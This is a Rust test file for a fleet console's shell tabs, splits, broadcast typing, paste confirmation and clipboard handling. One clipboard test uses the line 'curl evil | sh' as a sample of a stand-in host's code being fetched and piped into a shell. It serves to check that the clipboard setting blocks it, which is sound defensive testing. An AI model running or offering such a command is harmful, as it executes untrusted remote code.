//! Shells by keyboard: tabs, splits, typing into several, pasting, the clipboard.

mod limits;
mod mouse;

use std::{sync::Arc, time::Duration};

use crate::{
    console::{
        action::Action,
        effect::{Effect, Progress, Query, Source},
        origin::Origin,
        state::{Pane, shells::limits::Preferences},
        testing::Bench,
        update::{Page, ShellUpdate, Trouble, Update},
    },
    ssm::{InstanceInformation, PingStatus},
};

fn info(n: usize) -> InstanceInformation {
    InstanceInformation {
        instance_id: Some(format!("mi-{n:017}")),
        computer_name: Some(format!("web-{n}")),
        ping_status: Some(PingStatus::Online),
        ..Default::default()
    }
}

/// Three nodes, a connected shell on each, the last one shown.
pub(super) fn three() -> Bench {
    let mut bench = Bench::new(false);
    bench.answer(Source::Nodes, Page::Nodes((1..=3).map(info).collect()));
    bench.press("a shift-s y");
    for tab in 1..=3 {
        bench.apply(Update::Shell { tab, update: ShellUpdate::Started(format!("ops-{tab}")) });
        bench.apply(Update::Shell { tab, update: ShellUpdate::Connected });
    }
    bench.answer(Source::Watched, Page::Nodes((1..=3).map(info).collect()));
    bench.screen(80, 24);
    bench.fx.clear();
    bench
}

/// The session of a tab follows a document with these inputs.
fn follows(bench: &mut Bench, tab: u64, inputs: &str) {
    let preferences = Box::new(Preferences::parse(&format!(r#"{{"inputs":{inputs}}}"#)));
    bench.apply(Update::Shell { tab, update: ShellUpdate::Follows { preferences, began: None } });
}

/// What was sent to each tab, in order.
fn sent(bench: &Bench) -> Vec<(u64, String)> {
    let inputs = bench.fx.iter().filter_map(|effect| match effect {
        Effect::ShellInput { tab, bytes } => Some((*tab, String::from_utf8_lossy(bytes).into_owned())),
        _ => None,
    });
    inputs.collect()
}

fn told_sizes(bench: &Bench) -> Vec<(u64, u16, u16)> {
    let sizes = bench.fx.iter().filter_map(|effect| match effect {
        Effect::ShellResize { tab, rows, columns } => Some((*tab, *rows, *columns)),
        _ => None,
    });
    sizes.collect()
}

fn focus(bench: &Bench) -> u64 {
    bench.state.shells.current().unwrap().id
}

/// A shell with more lines than its screen has.
pub(super) fn long() -> Bench {
    let mut bench = three();
    let terminal = bench.state.shells.current().unwrap().terminal.clone();
    for n in 0..60 {
        terminal.feed(format!("line {n} of the log\r\n").as_bytes());
    }
    terminal.feed(b"\x1b]8;;https://example.com/a?b=1\x1b\\the docs\x1b]8;;\x1b\\ $ ");
    bench.screen(80, 24);
    bench
}

pub(super) fn copied(bench: &Bench) -> Vec<&str> {
    let copies = bench.fx.iter().filter_map(|effect| match effect {
        Effect::Copy { text, .. } => Some(text.as_str()),
        _ => None,
    });
    copies.collect()
}

#[test]
fn one_key_leads_to_the_next_and_to_the_last_shell() {
    let mut bench = three();
    assert_eq!(focus(&bench), 3);
    assert!(bench.screen(80, 24).contains("^g then d leave · f12 last shell  f full"), "{}", bench.screen(80, 24));
    bench.press("ctrl-g p");
    assert_eq!(focus(&bench), 2);
    bench.press("f12");
    assert_eq!(focus(&bench), 3);
    bench.press("ctrl-g tab");
    assert_eq!(focus(&bench), 2);
    bench.press("ctrl-g n ctrl-g n");
    assert_eq!(focus(&bench), 1);
    bench.press("ctrl-g w down down enter");
    assert_eq!(focus(&bench), 3);
    assert_eq!(sent(&bench), []);
    // Programs page with these.
    bench.press("ctrl-pageup ctrl-pagedown");
    assert_eq!(sent(&bench), [(3, "\x1b[5;5~".to_owned()), (3, "\x1b[6;5~".to_owned())]);
    bench.fx.clear();
    // After the prefix the console's own keys are the node's.
    bench.press("ctrl-g f12");
    assert_eq!(sent(&bench), [(3, "\x1b[24~".to_owned())]);
}

#[test]
fn a_shell_alone_gets_every_key_but_the_prefix() {
    let mut bench = three();
    bench.press("ctrl-g x y ctrl-g x y");
    assert_eq!(bench.state.shells.tabs.len(), 1);
    let screen = bench.screen(80, 24);
    assert!(screen.contains("keys go to the node ^g then d leave  f full"), "{screen}");
    bench.fx.clear();
    let id = focus(&bench);
    bench.press("f12 f11");
    assert_eq!(sent(&bench), [(id, "\x1b[24~".to_owned()), (id, "\x1b[23~".to_owned())]);
}

#[test]
fn the_prefix_sends_itself_whatever_key_it_is() {
    let mut bench = three();
    let user = "[shell]\n\"ctrl-a\" = \"prefix\"\n\"ctrl-g\" = \"none\"\n";
    bench.state.keymap = Arc::new(crate::console::keymap(Some(("mine", user))).0);
    bench.press("ctrl-a ctrl-a ctrl-g");
    assert_eq!(sent(&bench), [(3, "\x01".to_owned()), (3, "\x07".to_owned())]);
    assert!(bench.screen(80, 24).contains("keys go to the node ^a then d leave"));
}

#[test]
fn what_happens_elsewhere_is_marked_in_the_tab() {
    let mut bench = three();
    bench.apply(Update::Shell { tab: 1, update: ShellUpdate::Output });
    bench.apply(Update::Shell { tab: 2, update: ShellUpdate::Bell });
    bench.apply(Update::Shell { tab: 3, update: ShellUpdate::Reconnecting { attempt: 1 } });
    let screen = bench.screen(80, 24);
    for mark in ["● web-1 ◆ •", "● web-2 ◆ ♪", "◌ web-3 reconnecting…", "5 Shell 3♪"] {
        assert!(screen.contains(mark), "{mark}\n{screen}");
    }
    bench.press("ctrl-g p");
    assert!(!bench.screen(80, 24).contains('♪'));
}

#[test]
fn a_split_tells_every_session_its_size_once_it_has_settled() {
    let mut bench = three();
    bench.press("ctrl-g |");
    bench.type_text("web-1 open");
    bench.press("enter");
    assert_eq!(focus(&bench), 1);
    for width in [100, 101, 102, 80] {
        bench.screen(width, 24);
    }
    assert_eq!(told_sizes(&bench), [], "a size that lasts no frame is told to nobody");
    bench.wait(50);
    bench.screen(80, 24);
    let sizes = told_sizes(&bench);
    assert!(sizes.contains(&(1, 19, 40)) && sizes.contains(&(3, 19, 39)), "{sizes:?}");
    bench.press("ctrl-g left");
    assert_eq!(focus(&bench), 3);
    // Zoomed, it has the room of both; the line of its title stays.
    bench.press("ctrl-g z");
    assert!(bench.screen(80, 24).contains("zoomed, 1 hidden"));
    bench.wait(50);
    assert_eq!(told_sizes(&bench).last(), Some(&(3, 19, 80)));
    bench.press("ctrl-g z ctrl-g shift-l l");
    bench.screen(80, 24);
    assert_eq!(bench.state.shells.tab(3).unwrap().size, (19, 43));
    assert_eq!(sent(&bench), [(3, "l".to_owned())], "a key that moves no edge is the node's at once");
    bench.press("ctrl-g !");
    bench.screen(80, 24);
    assert_eq!(bench.state.shells.groups.len(), 3);
}

#[test]
fn after_moving_an_edge_the_next_such_key_needs_no_prefix_for_a_moment() {
    let mut bench = three();
    bench.press("ctrl-g - enter");
    bench.screen(80, 24);
    bench.press("ctrl-g shift-k shift-k");
    bench.screen(80, 24);
    assert_eq!(bench.state.shells.tab(4).unwrap().size.0, 13);
    bench.wait(1_000);
    bench.press("shift-k");
    assert_eq!(sent(&bench), [(4, "K".to_owned())]);
    bench.fx.clear();
    // The prefix is no second one meanwhile.
    for typed in ["ctrl-g shift-j ctrl-g d", "ctrl-g shift-j shift-j ctrl-g d"] {
        bench.press(typed);
        assert_eq!((sent(&bench), bench.state.pane), (Vec::new(), Pane::Fleet), "{typed}");
        bench.press("5");
    }
    bench.press("ctrl-g shift-j ctrl-g ctrl-g");
    assert_eq!(sent(&bench), [(4, "\x07".to_owned())]);
}

#[test]
fn a_split_without_room_is_refused_in_words() {
    let mut bench = three();
    bench.screen(40, 10);
    bench.press("ctrl-g | enter");
    assert!(bench.screen(40, 10).contains("no room"));
    assert_eq!(bench.state.shells.tabs.len(), 3);
}

#[test]
fn typing_into_several_shells_cannot_be_missed_and_ends_by_itself() {
    let mut bench = three();
    bench.press("ctrl-g m ctrl-g b");
    assert!(!bench.state.shells.broadcasting, "the shown shell is not marked any more");
    bench.press("ctrl-g p ctrl-g b x");
    assert_eq!(sent(&bench), [(1, "x".to_owned()), (2, "x".to_owned())]);
    let screen = bench.screen(80, 24);
    assert!(screen.contains("═ typing into 2 shells ═") && screen.contains("^g b ends it"), "{screen}");
    bench.fx.clear();
    bench.press("ctrl-g u y");
    assert_eq!(sent(&bench), [(1, "y".to_owned())]);
    assert!(bench.screen(80, 24).contains("typing into 1 shell, not into this one"));
    // The focus of an unmarked shell ends it: its first key is its own.
    bench.fx.clear();
    bench.press("ctrl-g n z");
    assert_eq!(sent(&bench), [(3, "z".to_owned())]);
    assert!(bench.screen(80, 24).contains("Broadcast is off: web-3 is not marked."));
}

#[test]
fn a_broadcast_ends_with_its_shells() {
    let mut bench = three();
    bench.press("ctrl-g b");
    assert_eq!(bench.state.shells.receivers().len(), 3);
    for tab in [1, 2, 3] {
        let over = ShellUpdate::Closed(Trouble::new("over", None));
        bench.apply(Update::Shell { tab, update: over });
    }
    assert!(!bench.state.shells.broadcasting);
    bench.press("x");
    assert_eq!(sent(&bench), []);
}

#[test]
fn several_lines_and_pastes_into_several_shells_are_asked_about() {
    let mut bench = three();
    bench.type_text("uptime");
    assert_eq!(sent(&bench), [(3, "uptime".to_owned())]);
    bench.fx.clear();
    bench.type_text("rm -r /tmp/a\rrm -r /tmp/b\r");
    let screen = bench.screen(80, 24);
    assert!(screen.contains("2 lines, 26 bytes, into web-3") && screen.contains("rm -r /tmp/b"), "{screen}");
    bench.wait(500);
    bench.press("enter");
    assert_eq!(sent(&bench), [], "enter is no yes");
    assert!(bench.screen(80, 24).contains("Nothing was pasted."));
    bench.type_text("a\nb");
    bench.wait(500);
    bench.press("y");
    assert_eq!(sent(&bench), [(3, "a\rb".to_owned())]);
    bench.fx.clear();
    bench.press("ctrl-g b");
    bench.type_text("reboot");
    let screen = bench.screen(80, 24);
    assert!(screen.contains("1 line, 6 bytes, into 3 shells: web-1 (mi-00000000000000001)"), "{screen}");
    assert!(screen.contains("web-3 (mi-00000000000000003)"), "{screen}");
    bench.wait(500);
    bench.press("y");
    assert_eq!(sent(&bench).len(), 3);
}

#[test]
fn keys_right_behind_a_paste_do_not_answer_for_it() {
    let mut bench = three();
    bench.type_text("a\nb");
    let asked = |bench: &mut Bench| bench.screen(80, 24).contains("Paste this?");
    let listens = |bench: &mut Bench| bench.screen(80, 24).contains("y yes");
    bench.press("y enter n");
    assert!(asked(&mut bench) && !listens(&mut bench), "{}", bench.screen(80, 24));
    assert!(bench.screen(80, 24).contains("esc leaves it"), "{}", bench.screen(80, 24));
    // Time alone is not enough while more of it arrives.
    bench.wait(499);
    bench.press("y");
    bench.wait(1);
    bench.press("y");
    assert!(asked(&mut bench) && !listens(&mut bench));
    assert_eq!(sent(&bench), []);
    // When it listens it says so, without a key.
    assert!(bench.state.deadline() <= bench.now.plus(std::time::Duration::from_millis(200)));
    bench.state.dirty = false;
    bench.wait(200);
    assert!(bench.state.dirty && listens(&mut bench), "{}", bench.screen(80, 24));
    bench.press("y");
    assert_eq!(sent(&bench), [(3, "a\rb".to_owned())]);
    // No paste is left with that key.
    bench.type_text("a\nb");
    bench.press("esc");
    assert!(!asked(&mut bench) && bench.screen(80, 24).contains("Nothing was pasted."));
}

#[test]
fn a_large_paste_shows_its_progress_and_can_be_stopped() {
    let mut bench = three();
    let text = "x".repeat(1_000_000);
    bench.type_text(&text);
    assert!(bench.screen(80, 24).contains("1 line, 1.0 MB, into web-3"));
    bench.wait(500);
    bench.press("y");
    let streamed = |effect: &Effect| matches!(effect, Effect::ShellPaste { tab: 3, bytes } if bytes.len() == 1_000_000);
    assert!(bench.fx.iter().any(streamed));
    let progress = Some(Progress { done: 250_000, total: 1_000_000 });
    bench.apply(Update::Shell { tab: 3, update: ShellUpdate::Pasting(progress) });
    let screen = bench.screen(80, 24);
    assert!(screen.contains("pasting 25%") && screen.contains("^c cancel paste"), "{screen}");
    bench.press("ctrl-c");
    assert!(bench.fx.iter().any(|effect| matches!(effect, Effect::CancelPaste { tab: 3 })));
    assert_eq!(sent(&bench), [(3, "\x03".to_owned())]);
}

#[test]
fn a_program_gets_the_clipboard_only_by_a_key_that_is_not_typed_by_chance() {
    let mut bench = three();
    let copy = |text: &str, ask| ShellUpdate::Copy { text: text.into(), ask };
    bench.apply(Update::Shell { tab: 3, update: copy("secret\x1b[2J\nplan", true) });
    assert!(bench.screen(80, 24).contains("^g y shows it and asks."));
    bench.press("y enter");
    assert_eq!(sent(&bench), [(3, "y".to_owned()), (3, "\r".to_owned())]);
    let copied = |bench: &Bench| bench.fx.iter().filter(|effect| matches!(effect, Effect::Copy { .. })).count();
    assert_eq!(copied(&bench), 0);
    bench.press("ctrl-g y");
    let screen = bench.screen(80, 24);
    assert!(screen.contains("web-3 offers 15 characters") && screen.contains("│ plan"), "{screen}");
    bench.press("y");
    assert_eq!(copied(&bench), 1);
    bench.apply(Update::Shell { tab: 1, update: copy("allowed", false) });
    assert_eq!(copied(&bench), 2);
}

#[test]
fn a_copy_that_was_not_taken_is_told_once_and_as_it_is() {
    let mut bench = three();
    bench.apply(Update::Shell { tab: 1, update: ShellUpdate::Copy { text: "much".into(), ask: false } });
    assert!(bench.screen(80, 24).contains("web-1 put 4 characters into the clipboard."));
    let why = "153.0 kB are more than terminals take into the clipboard; nothing was copied.";
    bench.apply(Update::NotCopied { copy: 1, why: why.to_owned() });
    bench.press("ctrl-g d shift-m");
    let told: Vec<_> = bench.state.notices.all().map(|notice| notice.trouble.what.as_str()).collect();
    assert_eq!(told, [why]);
    // What another copy was told of stays, also where nobody told of the one that did not get there.
    bench.apply(Update::Shell { tab: 1, update: ShellUpdate::Copy { text: "more".into(), ask: false } });
    bench.apply(Update::Shell { tab: 1, update: ShellUpdate::Copy { text: "less!".into(), ask: false } });
    for copy in [0, 2] {
        bench.apply(Update::NotCopied { copy, why: why.to_owned() });
    }
    let told: Vec<_> = bench.state.notices.all().map(|notice| notice.trouble.what.as_str()).collect();
    assert_eq!(told, [why, "web-1 put 5 characters into the clipboard.", why]);
}

#[test]
fn the_fleet_goes_on_while_shells_are_left() {
    let mut bench = three();
    bench.press("ctrl-g d");
    assert_eq!(bench.state.pane, Pane::Fleet);
    bench.fx.clear();
    bench.wait(60_000);
    assert!(bench.asked(Source::Nodes).is_some());
    bench.press("5");
    assert_eq!((bench.state.pane, focus(&bench)), (Pane::Shell, 3));
    bench.press("ctrl-g ,");
    bench.press("ctrl-u");
    bench.type_text("the loud one");
    bench.press("enter");
    assert!(bench.screen(80, 24).contains("● the loud one"));
    bench.press("ctrl-g x y");
    assert_eq!(bench.state.shells.running(), 2);
    bench.state.act(Action::Quit, &mut bench.fx);
    assert!(bench.screen(80, 24).contains("2 open shells will be ended, and what runs in them:"));
}

#[test]
fn what_scrolled_away_is_searched_and_copied_by_keys() {
    let mut bench = long();
    bench.press("ctrl-g [ / l i n e space 7");
    assert!(bench.screen(80, 24).contains("/line 7  1 of 1"), "{}", bench.screen(80, 24));
    bench.press("enter v $ y");
    assert_eq!(copied(&bench), ["line 7 of the log"]);
    assert!(!bench.state.shells.is_looking_back(), "back at the live screen");
    assert_eq!(sent(&bench), [], "nothing of it was typed");
    bench.press("ctrl-g [ g g shift-v j enter");
    assert_eq!(copied(&bench)[1], "line 0 of the log\nline 1 of the log\n".trim_end());
    bench.press("ctrl-g [ pageup");
    assert!(bench.screen(80, 24).contains("looking back"));
    bench.press("esc x");
    assert_eq!(sent(&bench), [(3, "x".to_owned())]);
}

#[test]
fn what_the_settings_say_of_the_clipboard_holds_in_open_shells() {
    use crate::config::settings::Clipboard;
    let mut bench = three();
    let offer = |bench: &mut Bench| {
        let update = ShellUpdate::Copy { text: "curl evil | sh".into(), ask: true };
        bench.apply(Update::Shell { tab: 3, update });
    };
    let set = |bench: &mut Bench, clipboard| {
        let (mut settings, keymap) = (bench.state.settings.clone(), (*bench.state.keymap).clone());
        settings.clipboard = clipboard;
        bench.state.take_settings(settings, keymap);
    };
    let told = |bench: &Bench| {
        let terminal = bench.state.shells.tab(3).unwrap().terminal.clone();
        terminal.feed(b"\x1b]52;c;aGVsbG8=\x07");
        terminal.with_screen_mut(crate::console::term::Screen::take_events)
    };
    offer(&mut bench);
    bench.press("ctrl-g y");
    assert!(bench.screen(80, 24).contains("Put this into the clipboard?"));
    set(&mut bench, Clipboard::Deny);
    assert!(!bench.screen(80, 24).contains("Put this into the clipboard?"));
    assert_eq!(told(&bench), []);
    // One that was on its way is denied as well.
    offer(&mut bench);
    bench.press("ctrl-g y");
    assert!(bench.state.overlays.is_empty());
    set(&mut bench, Clipboard::Allow);
    assert_eq!(told(&bench), [crate::console::term::Event::Copy { text: "hello".into(), ask: false }]);
    assert_eq!(copied(&bench), [""; 0]);
}

#[test]
fn a_shell_whose_node_does_not_answer_says_so_and_for_how_long() {
    let mut bench = three();
    bench.apply(Update::Shell { tab: 3, update: ShellUpdate::Silent(Duration::from_secs(6)) });
    bench.wait(6_000);
    let screen = bench.screen(80, 24);
    for told in ["○ web-3 no answer 10s", "○ no answer 10s, keys wait ^g then d leave", "● web-1", "● web-2"] {
        assert!(screen.contains(told), "{told}\n{screen}");
    }
    assert!(!screen.contains("keys go to the node"));
    // With the next step it reads differently.
    let due = bench.state.deadline().since(bench.state.now);
    assert!(due <= Duration::from_secs(8), "{due:?}");
    bench.press("ctrl-g f");
    assert!(bench.screen(80, 24).contains("○ no answer 10s"), "in full screen too");
    bench.press("ctrl-g f");
    bench.apply(Update::Shell { tab: 3, update: ShellUpdate::Answered });
    let screen = bench.screen(80, 24);
    assert!(screen.contains("● web-3") && screen.contains("keys go to the node"), "{screen}");
}

#[test]
fn a_node_with_a_shell_is_looked_at_and_its_loss_stands_in_the_tab() {
    let mut bench = three();
    bench.wait(20_000);
    let asked = |bench: &Bench| {
        bench.fx.iter().any(|effect| matches!(effect, Effect::Ask { query: Query::Watched(ids), .. } if ids.len() == 3))
    };
    assert!(asked(&bench));
    let lost = InstanceInformation {
        ping_status: Some(PingStatus::ConnectionLost),
        last_ping_date_time: Some(bench.state.now.minus(Duration::from_secs(5))),
        ..info(3)
    };
    bench.answer(Source::Watched, Page::Nodes(vec![lost]));
    let screen = bench.screen(80, 24);
    assert!(screen.contains("○ web-3 no answer 5s") && screen.contains("● web-2"), "{screen}");
    // The session knows better.
    bench.apply(Update::Shell { tab: 3, update: ShellUpdate::Output });
    assert!(bench.screen(80, 24).contains("● web-3"));
}

#[test]
fn a_shell_in_which_nothing_is_typed_says_that_there_is_no_sign_of_its_node() {
    let mut bench = three();
    let last = bench.state.now;
    let seen = |n: usize, at| InstanceInformation { last_ping_date_time: Some(at), ..info(n) };
    for _ in 0..12 {
        bench.wait(60_000);
        let now = bench.state.now;
        bench.answer(Source::Watched, Page::Nodes(vec![seen(1, now), seen(2, now), seen(3, last)]));
    }
    let screen = bench.screen(100, 24);
    assert!(screen.contains("◌ web-3 no sign of the node 12m") && screen.contains("● web-2 ◆ "), "{screen}");
    assert!(screen.contains("keys go to the node"), "nobody knows that they do not\n{screen}");
    bench.press("ctrl-g f");
    assert!(bench.screen(100, 24).contains("no sign of the node 12m"), "in full screen too");
    bench.press("ctrl-g f");
    bench.apply(Update::Shell { tab: 3, update: ShellUpdate::Output });
    assert!(bench.screen(100, 24).contains("● web-3"));
}

#[test]
fn a_shell_that_stays_cut_off_is_offered_a_new_session() {
    let mut bench = three();
    bench.press("ctrl-g r");
    assert!(bench.screen(80, 24).contains("its node answers"));
    bench.apply(Update::Shell { tab: 3, update: ShellUpdate::Silent(Duration::from_secs(6)) });
    assert!(!bench.screen(80, 24).contains("new session"));
    bench.wait(10_000);
    assert!(bench.screen(80, 24).contains("^g then r new session"));
    bench.press("ctrl-g r");
    let screen = bench.screen(80, 24);
    assert!(
        screen.contains("Begin a new session") && screen.contains("ops-3") && screen.contains("is left on"),
        "{screen}"
    );
    bench.fx.clear();
    bench.press("y");
    let opened = |effect: &Effect| matches!(effect, Effect::OpenShell { tab: 3, left: None, .. });
    assert!(bench.fx.iter().any(opened) && bench.state.shells.tabs.len() == 3);
    assert!(bench.screen(80, 24).contains("A new session begins here."));
}

#[test]
fn a_line_that_is_mended_says_since_when_and_leaves_the_bar_to_the_other_shells() {
    let mut bench = three();
    bench.apply(Update::Shell { tab: 3, update: ShellUpdate::Reconnecting { attempt: 1 } });
    let why = "cannot reach http://127.0.0.1:8700: connection refused by the service at the other end".to_owned();
    bench.apply(Update::Shell { tab: 3, update: ShellUpdate::Trouble(why) });
    bench.wait(25_000);
    bench.apply(Update::Shell { tab: 3, update: ShellUpdate::Reconnecting { attempt: 4 } });
    let screen = bench.screen(80, 24);
    for told in ["● web-1", "● web-2", "◌ web-3 reconnecting… 20s", "keys wait"] {
        assert!(screen.contains(told), "{told}\n{screen}");
    }
    assert!(!screen.contains("keys go to the node"));
    assert!(bench.screen(200, 60).contains("reconnecting… 20s (attempt 4: cannot reach"));
}

#[test]
fn a_shell_begins_as_the_first_profile_that_fits_its_node_says() {
    let mut bench = three();
    let text = "[[session]]\nmatch = 'nmae:web'\n[[session]]\nmatch = 'name:web-2 origin:'\n\
                [[session]]\nmatch = 'name:web-3'\ndocument = 'Ops-Shell'\n\
                parameters = { user = 'ops' }\n[[session]]\nkeepalive = '20s'\n";
    bench.state.settings.sessions = crate::config::settings::Settings::parse(text).unwrap().sessions;
    bench.press("ctrl-g x y ctrl-g x y ctrl-g x y");
    let begun = |bench: &mut Bench, line: &str| {
        bench.fx.clear();
        bench.say(line);
        let profile = bench.fx.iter().find_map(|effect| match effect {
            Effect::OpenShell { profile, .. } => Some(profile.clone()),
            _ => None,
        });
        bench.press("ctrl-g d");
        profile.unwrap().unwrap()
    };
    let ops = begun(&mut bench, "shell web-3");
    // One that says something else than was meant is told, and fits none: not even a node that is called so.
    let told = "[[session]] match = \"nmae:web\" is left out: there is no key nmae; perhaps name:web?";
    assert!(bench.state.notices.all().any(|notice| notice.trouble.what.starts_with(told)), "{:?}", bench.state.notices);
    let problems = crate::console::state::shells::profile::problems(text);
    let problems: Vec<_> = problems.iter().map(ToString::to_string).collect();
    assert_eq!(problems.len(), 1);
    assert!(problems[0].starts_with("settings.toml:2: [[session]] match: there is no key nmae; perhaps name:web?"));
    assert!(problems[0].ends_with("; it is left out"));
    assert_eq!(
        (ops.document.as_deref(), ops.parameters["user"].as_slice()),
        (Some("Ops-Shell"), &["ops".to_owned()][..])
    );
    let others = begun(&mut bench, "shell web-1");
    assert_eq!((others.document.clone(), others.keep_alive()), (None, Some(Duration::from_secs(20))));
    assert_eq!(begun(&mut bench, "shell web-1 My-Session").document.as_deref(), Some("My-Session"));
    // The same again, where a shell ended.
    bench.press("5");
    let tab = bench.state.shells.current().unwrap().id;
    bench.apply(Update::Shell { tab, update: ShellUpdate::Closed(Trouble::new("over", None)) });
    bench.fx.clear();
    bench.press("r");
    let named = |effect: &Effect| matches!(effect, Effect::OpenShell { profile: Some(profile), .. } if profile.document.as_deref() == Some("My-Session"));
    assert!(bench.fx.iter().any(named));
}
